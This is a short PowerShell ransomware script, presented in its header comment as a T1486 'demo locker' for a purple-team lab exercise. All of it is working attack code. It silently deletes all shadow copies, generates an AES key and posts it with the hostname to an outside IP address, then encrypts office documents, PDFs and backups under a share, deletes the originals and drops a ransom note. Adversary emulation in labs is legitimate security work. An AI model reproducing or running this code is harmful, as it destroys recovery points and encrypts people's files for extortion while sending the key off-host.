# T1486 demo locker used in the purple-team exercise (do not run outside the lab)
param(
    [string]$Root = 'D:\Shares'
)

vssadmin.exe delete shadows /all /quiet

$aes = [System.Security.Cryptography.Aes]::Create()
$aes.KeySize = 256
$aes.GenerateKey()
$aes.GenerateIV()
$keyBlob = [Convert]::ToBase64String($aes.Key + $aes.IV)
Invoke-RestMethod -Uri 'http://198.51.100.90/k' -Method Post -Body @{ host = $env:COMPUTERNAME; k = $keyBlob } | Out-Null

Get-ChildItem -Path $Root -Recurse -File -Include *.docx, *.xlsx, *.pdf, *.bak | ForEach-Object {
    $plain = [IO.File]::ReadAllBytes($_.FullName)
    $enc = $aes.CreateEncryptor().TransformFinalBlock($plain, 0, $plain.Length)
    [IO.File]::WriteAllBytes($_.FullName + '.lockd', $enc)
    Remove-Item -LiteralPath $_.FullName -Force
}

Set-Content -Path (Join-Path -Path $Root -ChildPath 'READ_ME.txt') -Value 'Your files are encrypted. Contact recover@example.org'
